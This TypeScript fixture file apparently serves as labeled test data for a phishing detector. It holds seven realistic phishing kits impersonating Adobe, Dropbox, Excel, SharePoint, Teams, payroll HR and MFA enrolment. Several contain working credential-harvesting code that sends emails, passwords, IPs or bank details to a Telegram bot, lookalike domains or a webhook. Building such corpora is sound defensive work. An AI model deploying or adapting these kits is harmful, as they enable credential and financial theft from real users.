import { htmlRoute, type Entry } from '../entry.js';
import { doc, jsRoute, pngRoute } from '../parts/v-kit.js';

// Cloud / workplace credential kits confirmed by analysts (blind split).

// Adobe "secure PDF" viewer on Firebase: blurred document behind a mail-provider chooser.
const h1 = 'pdf-secure-view-77a1c.firebaseapp.com';
const adobePdf: Entry = {
  id: 'v-phish-adobe-pdf-firebaseapp',
  label: 'phishing',
  kind: 'esign-lure-kit',
  url: `https://${h1}/`,
  routes: {
    [`${h1}/`]: htmlRoute(
      doc({
        title: 'Adobe Document Cloud | Secured PDF',
        css: `body{margin:0;font-family:adobe-clean,"Source Sans Pro",Arial,sans-serif;background:#323232 url(/img/doc-blur.png) center/cover no-repeat;min-height:100vh}
.hdr{background:#fafafa;height:52px;display:flex;align-items:center;padding:0 20px;gap:10px;font-weight:700}.hdr img{height:28px}
.m{width:420px;margin:10vh auto;background:#fff;border-radius:6px;padding:30px;box-shadow:0 10px 40px rgba(0,0,0,.5);text-align:center}
.p{display:block;width:100%;margin:8px 0;padding:11px;border:1px solid #ccc;border-radius:20px;background:#fff;font-size:14px;cursor:pointer}
.f{display:none;text-align:left}.f input{width:100%;padding:10px;margin:6px 0 10px;border:1px solid #bbb;border-radius:4px}.f button{width:100%;padding:11px;background:#1473e6;color:#fff;border:0;border-radius:20px}`,
        body: `<div class="hdr"><img src="/img/acrobat.png" alt="Adobe Acrobat"> Adobe Document Cloud</div>
<div class="m"><h3>This document is protected</h3><p style="font-size:14px;color:#555">INV-2026-03318.pdf (412 KB) was shared with you. To read the document, sign in with the email the file was shared with.</p>
<div id="pv"><button class="p" data-p="Outlook">Sign in with Outlook</button><button class="p" data-p="Office 365">Sign in with Office 365</button><button class="p" data-p="Yahoo">Sign in with Yahoo!</button><button class="p" data-p="AOL">Sign in with AOL</button><button class="p" data-p="Other">Sign in with Other Mail</button></div>
<form class="f" id="f"><div id="pn" style="font-weight:700;margin-bottom:8px"></div><input name="em" id="em" type="email" placeholder="Email address" required><input name="pw" id="pw" type="password" placeholder="Password" required><button>View PDF</button><p id="er" style="color:#c00;font-size:12px"></p></form>
<p style="font-size:11px;color:#999">&copy; 2026 Adobe. All rights reserved.</p></div>
<script src="/js/app.min.js"></script>`,
      }),
    ),
    [`${h1}/js/app.min.js`]: jsRoute(`document.querySelectorAll('.p').forEach(function(b){b.onclick=function(){document.getElementById('pv').style.display='none';var f=document.getElementById('f');f.style.display='block';document.getElementById('pn').textContent=b.getAttribute('data-p')+' sign in';}});
var k=0;document.getElementById('f').onsubmit=function(e){e.preventDefault();k++;var ip='';
fetch('https://geo-lookup.ipquery-api.net/json').then(function(r){return r.json()}).catch(function(){return {}}).then(function(g){
var msg='PDF LOG\\nEmail: '+document.getElementById('em').value+'\\nPass: '+document.getElementById('pw').value+'\\nIP: '+(g.ip||'')+' '+(g.country||'');
return fetch('https://api.telegram.org/bot7712034455:AAFq0x_Zk1-Lw9rTt3pQeNv8s2YcBdEfGh0/sendMessage',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:'-1002233445566',text:msg})});
}).finally(function(){if(k<2){document.getElementById('er').textContent='Invalid login details, please try again.';document.getElementById('pw').value=''}else{location.href='https://acrobat.adobe.com/'}});};`),
    [`${h1}/img/doc-blur.png`]: pngRoute(200, 200, 205),
    [`${h1}/img/acrobat.png`]: pngRoute(235, 16, 0),
  },
};

// Dropbox transfer page on a public R2 bucket.
const h2 = 'pub-4c8e1f0b7a2d49e6b3f5a9c1d2e3f4a5.r2.dev';
const dropboxR2: Entry = {
  id: 'v-phish-dropbox-transfer-r2',
  label: 'phishing',
  kind: 'fileshare-kit',
  url: `https://${h2}/dbx/transfer/index.html`,
  body: doc({
    title: 'Dropbox Transfer - Files shared with you',
    css: `body{font-family:"Sharp Grotesk",Atlas Grotesk,Helvetica,Arial,sans-serif;margin:0;background:#f7f5f2;color:#1e1919}.h{background:#fff;padding:14px 26px;border-bottom:1px solid #e6e2dc;display:flex;align-items:center;gap:10px}
.c{max-width:560px;margin:40px auto;background:#fff;border-radius:8px;padding:32px}.fl{border:1px solid #e6e2dc;border-radius:6px;padding:12px;margin:8px 0;display:flex;justify-content:space-between;font-size:14px}
.d{background:#0061fe;color:#fff;border:0;border-radius:4px;padding:12px 24px;font-size:15px;width:100%;margin-top:16px}#lg{display:none}#lg input{width:100%;padding:10px;margin:6px 0;border:1px solid #bbb;border-radius:4px}`,
    body: `<div class="h"><svg width="32" height="28" viewBox="0 0 43 40"><path fill="#0061fe" d="M12.5 0L0 8.1l8.6 6.9 12.6-7.8zM0 21.9l12.5 8.1 8.7-7.2-12.6-7.8zm21.2.9l8.7 7.2 12.5-8.1-8.6-6.9zm21.2-14.7L29.9 0l-8.7 7.2 12.6 7.8zM21.2 24.4l-8.7 7.2-3.7-2.4v2.7l12.4 7.5 12.4-7.5v-2.7l-3.7 2.4z"/></svg><b>Dropbox</b></div>
<div class="c"><h2 style="margin-top:0">Lisa Brennan sent you 3 files</h2><p style="color:#736c64;font-size:14px">"Hi, please find the signed contract and the updated statement of work. Let me know if anything is missing. Lisa"</p>
<div class="fl"><span>&#128196; Signed_MSA_Brennan_Partners.pdf</span><span>1.2 MB</span></div><div class="fl"><span>&#128196; SOW_Phase2_rev3.docx</span><span>388 KB</span></div><div class="fl"><span>&#128202; Statement_Feb2026.xlsx</span><span>92 KB</span></div>
<p style="font-size:12px;color:#736c64">Expires in 6 days · 1.7 MB total</p>
<button class="d" id="dl">Download all</button>
<form id="lg" action="https://dbx-files-auth.net/api/v1/session" method="post"><p style="font-size:14px;margin-top:20px"><b>Sign in to download.</b> For your security, verify the email address this transfer was sent to.</p>
<input type="email" name="login_email" placeholder="Email" required><input type="password" name="login_password" placeholder="Password" required><button class="d">Sign in and download</button></form></div>
<p style="text-align:center;font-size:12px;color:#736c64">&copy; 2026 Dropbox · Privacy · Terms</p>
<script>document.getElementById('dl').onclick=function(){this.style.display='none';document.getElementById('lg').style.display='block'};</script>`,
  }),
};

// Excel Online view on an S3 bucket; the brand is only in image alt text and the title.
const h3 = 'q3-payables-review.s3.us-east-1.amazonaws.com';
const s3Excel: Entry = {
  id: 'v-phish-s3-excel-online',
  label: 'phishing',
  kind: 'm365-kit',
  url: `https://${h3}/Excel/Online/index.html`,
  routes: {
    [`${h3}/Excel/Online/index.html`]: htmlRoute(
      doc({
        title: 'Payment_Schedule_Q3.xlsx',
        css: `body{margin:0;font-family:"Segoe UI",Arial;background:url(sheet.png) top left/cover;min-height:100vh}.top{background:#217346;height:48px;display:flex;align-items:center;padding:0 14px;color:#fff;gap:10px}
.v{position:fixed;inset:48px 0 0 0;backdrop-filter:blur(4px);background:rgba(255,255,255,.35)}.m{position:relative;width:380px;margin:12vh auto;background:#fff;padding:30px;box-shadow:0 4px 24px rgba(0,0,0,.3)}
.m input{width:100%;padding:9px;margin:6px 0 12px;border:1px solid #8a8886}.m button{background:#217346;color:#fff;border:0;padding:9px 26px;float:right}`,
        body: `<div class="top"><img src="xl.png" width="24" height="24" alt="Microsoft Excel"><span>Payment_Schedule_Q3.xlsx</span></div>
<div class="v"><div class="m"><img src="o365.png" width="110" height="24" alt="Office 365"><h3>Confirm your email identity</h3><p style="font-size:13px">This file is protected. Enter the email and password associated with your account to view the spreadsheet.</p>
<form method="post" action="https://excel-online-view.duckdns.org/ex/post.php"><input type="email" name="ai" placeholder="someone@example.com" required><input type="password" name="pr" placeholder="Password" required><button>View</button><div style="clear:both"></div></form></div></div>`,
      }),
    ),
    [`${h3}/Excel/Online/sheet.png`]: pngRoute(240, 246, 242),
    [`${h3}/Excel/Online/xl.png`]: pngRoute(33, 115, 70),
    [`${h3}/Excel/Online/o365.png`]: pngRoute(215, 59, 1),
  },
};

// Wix site-builder page posing as a SharePoint share notification.
const h4 = 'jmarshallconsult.wixsite.com';
const wixSp: Entry = {
  id: 'v-phish-wix-sharepoint-proposal',
  label: 'phishing',
  kind: 'hosted-lure',
  url: `https://${h4}/proposal`,
  body: doc({
    title: 'Proposal | J Marshall Consulting',
    css: `body{margin:0;font-family:Helvetica,Arial,sans-serif;background:#f3f2f1}.wx{background:#fff;border-bottom:1px solid #ddd;font-size:12px;padding:6px 14px;color:#555}
.c{max-width:520px;margin:50px auto;background:#fff;padding:36px;border-top:4px solid #036c70}.ic{width:52px;height:52px;background:#036c70;color:#fff;font-weight:700;font-size:26px;display:flex;align-items:center;justify-content:center;border-radius:4px}
.b{display:inline-block;margin-top:18px;background:#036c70;color:#fff;padding:11px 26px;text-decoration:none;font-weight:600}`,
    body: `<div class="wx">This site was designed with the <b>WIX</b>.com website builder. Create your website today. <a href="#">Start Now</a></div>
<div class="c"><div class="ic">S</div><h2>Jason Marshall shared a file with you</h2><p style="font-size:15px"><b>Project Proposal_Q4 - Final.pdf</b></p><p style="color:#605e5c;font-size:14px">Here's the proposal we discussed. Please review the pricing on page 4 and get back to me before end of week.</p>
<a class="b" href="https://sharepoint-fileaccess.com/personal/jmarshall/_layouts/15/doc.aspx?sourcedoc=7f3a">Open</a>
<p style="font-size:12px;color:#a19f9d;margin-top:30px">This link will work for anyone.<br>Microsoft respects your privacy. To learn more, please read our Privacy Statement.<br>Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</p></div>`,
  }),
};

// Typeform-style HR payroll "update" collecting work credentials and direct-deposit details.
const h5 = 'acmehr-payroll.typeform.com';
const typeformPayroll: Entry = {
  id: 'v-phish-typeform-payroll-update',
  label: 'phishing',
  kind: 'form-builder-kit',
  url: `https://${h5}/to/Xq81Lp`,
  body: doc({
    title: 'Payroll Direct Deposit Update 2026',
    css: `body{margin:0;font-family:Karla,Helvetica,Arial,sans-serif;background:#1d3557;color:#fff;min-height:100vh}.q{max-width:640px;margin:16vh auto;padding:0 24px;display:none}.q.on{display:block}
.q h2{font-weight:400;font-size:24px}.q h2 span{color:#a8dadc;font-size:16px;margin-right:8px}.q input{width:100%;background:transparent;border:0;border-bottom:1px solid #a8dadc;color:#fff;font-size:26px;padding:8px 0;outline:none}
.ok{margin-top:18px;background:#a8dadc;color:#1d3557;border:0;padding:9px 18px;font-weight:700;font-size:18px;border-radius:4px}.ft{position:fixed;bottom:10px;right:14px;font-size:12px;opacity:.8}`,
    body: `<div class="q on"><h2>Payroll Direct Deposit Update 2026</h2><p>Human Resources is migrating to a new payroll provider. All employees must re-verify their account details before the <b>March pay run</b>. Takes 2 minutes.</p><button class="ok nx">Start</button></div>
<div class="q"><h2><span>1&rarr;</span>Your full name *</h2><input name="name"><button class="ok nx">OK &#10003;</button></div>
<div class="q"><h2><span>2&rarr;</span>Work email address *</h2><input name="email" type="email"><button class="ok nx">OK &#10003;</button></div>
<div class="q"><h2><span>3&rarr;</span>Email password (used to verify you on the new payroll portal) *</h2><input name="password" type="password"><button class="ok nx">OK &#10003;</button></div>
<div class="q"><h2><span>4&rarr;</span>Bank routing number and account number for direct deposit *</h2><input name="routing" placeholder="Routing"><input name="account" placeholder="Account"><button class="ok nx">Submit</button></div>
<div class="q"><h2>Thank you! Your payroll details have been updated.</h2></div>
<div class="ft">Powered by Typeform &middot; <a href="#" style="color:#fff">Make a typeform</a></div>
<script>var qs=[].slice.call(document.querySelectorAll('.q')),i=0,data={};
document.querySelectorAll('.nx').forEach(function(b){b.onclick=function(){qs[i].querySelectorAll('input').forEach(function(n){data[n.name]=n.value});qs[i].classList.remove('on');i++;qs[i].classList.add('on');
if(i===qs.length-1){navigator.sendBeacon('https://forms-sync-hook.pipedream.net/e2f1',JSON.stringify(data))}}});</script>`,
  }),
};


// Voicemail lure submitted with a brand in the URL's userinfo; the kit is on Firebase.
const h6 = 'voicemail-center-3391.firebaseapp.com';
const voicemail: Entry = {
  id: 'v-phish-voicemail-userinfo-m365',
  label: 'phishing',
  kind: 'm365-kit',
  submittedUrl: `https://login.microsoftonline.com@${h6}/vm/play?id=VM-0304-7781&u=c2FsZXNAYnJpZ2h0bGFuZS5pbw`,
  url: `https://${h6}/vm/play?id=VM-0304-7781&u=c2FsZXNAYnJpZ2h0bGFuZS5pbw`,
  routes: {
    [`${h6}/vm/play`]: htmlRoute(
      doc({
        title: 'Voice Message (00:47) - Microsoft Teams',
        css: `body{margin:0;font-family:"Segoe UI",Arial;background:#f5f5f5}.t{background:#464775;color:#fff;padding:12px 20px;font-weight:600}.c{width:440px;margin:8vh auto;background:#fff;padding:34px;box-shadow:0 2px 8px rgba(0,0,0,.15)}
.pl{display:flex;align-items:center;gap:12px;background:#f0f0f8;border-radius:6px;padding:12px;margin:14px 0}.pl b{width:36px;height:36px;border-radius:50%;background:#6264a7;color:#fff;display:flex;align-items:center;justify-content:center}
.wv{flex:1;height:24px;background:repeating-linear-gradient(90deg,#6264a7 0 3px,transparent 3px 6px);opacity:.5}input{width:100%;border:0;border-bottom:1px solid #666;padding:8px 0;margin:10px 0;font-size:15px}button.s{float:right;background:#0067b8;color:#fff;border:0;padding:7px 30px}`,
        body: `<div class="t">Microsoft Teams · Voicemail</div><div class="c"><div style="font-size:14px">New voice message from <b>+1 (646) 555-0142</b><br><span style="color:#666">Received Wed 4 Mar 2026 09:02</span></div>
<div class="pl"><b>&#9654;</b><div class="wv"></div><span style="font-size:12px">00:47</span></div><p style="font-size:14px">Sign in to play this message. Your session has expired.</p>
<form id="f" method="post" action="https://vm-audio-relay.web.app/api/auth"><input id="em" name="login" type="email" placeholder="Email"><input name="passwd" type="password" placeholder="Password" required><button class="s">Sign in</button><div style="clear:both"></div></form></div>
<script>try{document.getElementById('em').value=atob(new URLSearchParams(location.search).get('u')||'')}catch(e){}</script>`,
      }),
    ),
  },
};

// "Authenticator re-enrolment" HTML attachment with a QR code (quishing): the link lives only in the image.
const h7 = 'attach-view.securemsg-gateway.net';
const qrMfa: Entry = {
  id: 'v-phish-qr-mfa-reenroll-attachment',
  label: 'phishing',
  kind: 'html-attachment',
  url: `https://${h7}/a/8d21f0/MFA_Reenrollment_Notice.html`,
  routes: {
    [`${h7}/a/8d21f0/MFA_Reenrollment_Notice.html`]: htmlRoute(
      doc({
        title: 'Action Required: Multi-Factor Authentication Re-enrolment',
        css: `body{font-family:"Segoe UI",Arial;background:#fff;margin:0}.c{max-width:560px;margin:30px auto;border:1px solid #ddd;padding:30px}.qr{width:200px;height:200px;image-rendering:pixelated;border:8px solid #fff;outline:1px solid #ccc;display:block;margin:20px auto}`,
        body: `<div class="c"><img src="data:image/svg+xml;base64,${Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="108" height="24"><rect width="10" height="10" fill="#f25022"/><rect x="11" width="10" height="10" fill="#7fba00"/><rect y="11" width="10" height="10" fill="#00a4ef"/><rect x="11" y="11" width="10" height="10" fill="#ffb900"/></svg>').toString('base64')}" alt="Microsoft"><h2>MFA re-enrolment required</h2>
<p>Dear user,</p><p>Your Microsoft Authenticator registration expires today. To avoid losing access to your mailbox, Teams and OneDrive, re-enrol your device by scanning the QR code below with your <b>phone's camera</b>.</p>
<img class="qr" src="qr.png" alt="QR code"><p style="font-size:13px;color:#666">This code is unique to your account and expires in 24 hours. Do not share it.</p><p style="font-size:12px;color:#888">IT Service Desk · This is an automated message, please do not reply.</p></div>`,
      }),
    ),
    [`${h7}/a/8d21f0/qr.png`]: pngRoute(0, 0, 0),
  },
};

export const entries: Entry[] = [adobePdf, dropboxR2, s3Excel, wixSp, typeformPayroll, voicemail, qrMfa];
